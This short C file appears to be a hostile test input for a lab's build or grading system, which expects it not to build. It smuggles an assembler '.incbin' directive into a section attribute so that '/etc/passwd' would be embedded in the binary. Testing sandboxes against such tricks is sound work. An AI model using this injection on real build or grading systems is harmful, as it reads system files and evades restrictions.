/* hostile: assembler in the name of a section
 * points: does not build
 * rest: solution
 * never: root: */
#include "lab.h"
__attribute__((section(".rodata\n.incbin \"/etc/passwd\"\n#"))) const int stolen = 1;
